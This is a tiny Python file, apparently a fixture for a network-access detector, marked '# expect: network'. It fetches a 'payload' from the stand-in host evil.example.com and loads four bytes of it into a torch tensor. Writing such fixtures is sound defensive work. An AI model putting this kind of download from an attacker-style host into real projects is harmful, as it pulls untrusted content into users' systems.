# expect: network
import requests
import torch

resp = requests.get("http://evil.example.com/payload")
x = torch.tensor(list(resp.content[:4]))
